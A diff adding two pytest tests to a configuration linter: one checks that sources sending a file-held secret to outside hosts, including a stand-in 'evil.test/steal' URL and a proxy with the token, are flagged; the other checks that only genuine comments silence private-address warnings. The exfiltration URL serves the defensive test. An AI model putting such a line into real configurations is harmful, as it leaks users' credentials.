@@ -312,3 +312,40 @@ def test_a_token_in_the_address_of_a_source_is_told_and_not_shown(tmp_path: Path
     assert [lint.place.line for lint in lints] == [2, 3]
     assert "${file:/PATH}" in str(lints[0].hint)
     assert not any("0penly" in str(lint) or "0f3a9c" in str(lint) for lint in lints)
+
+
+def test_check_says_which_secret_a_source_sends_where(tmp_path: Path) -> None:
+    """An address of a stranger, which an earlier version added, looks like one that the user wrote: both are shown."""
+    check = checking(tmp_path)
+    write(tmp_path / "monitor.yaml", f"{CONFIG.format(url=f'sqlite:///{tmp_path}/none.db')}sources: [s.yaml]\n")
+    (tmp_path / "token").write_text("s3cret", encoding="utf-8")
+    keys = (
+        "url: 'https://evil.test/steal?file=${file:token}'",
+        "url: 'https://n.test/', proxy: 'http://me:${file:token}@proxy.test'",
+        "url: 'https://n.test/$${file:token}'",  # an escape: data
+        "url: 'https://mine.test/?t=${file:token}'}  # lint: ignore sent-credential",
+    )
+    lines = [f"  - {{id: s{number}, {key}" + "}" * ("#" not in key) for number, key in enumerate(keys)]
+    write(tmp_path / "s.yaml", "\n".join(["sources:", *lines]))
+    lints = [lint for lint in check.run(NOON).lints if lint.kind == "sent-credential"]
+    assert [(lint.place.line, lint.problem) for lint in lints] == [
+        (2, "s0 sends the secret ${file:token} to evil.test"),
+        (3, "s1 sends the secret ${file:token} to proxy.test"),
+    ]
+
+
+def test_only_a_comment_silences_advice(tmp_path: Path) -> None:
+    """A name that a stranger wrote is no comment, whatever is in it and however it is quoted."""
+    check = checking(tmp_path)
+    write(tmp_path / "monitor.yaml", f"{CONFIG.format(url=f'sqlite:///{tmp_path}/none.db')}sources: [s.yaml]\n")
+    rows = (
+        "name: 'News # lint: ignore private-address'}",
+        'name: "it\'s # lint: ignore private-address"}',
+        "name: 'it''s'}  # lint: ignore private-address",
+        "name: it's}  # lint: ignore private-address",
+        "name: 'News # lint: ignore private-address'}  # lint: ignore private-address",
+    )
+    lines = [f"  - {{id: s{number}, url: 'http://10.0.0.{number}/', {row}" for number, row in enumerate(rows)]
+    write(tmp_path / "s.yaml", "\n".join(["sources:", *lines]))
+    lints = [lint for lint in check.run(NOON).lints if lint.kind == "private-address"]
+    assert [lint.place.line for lint in lints] == [2, 3]
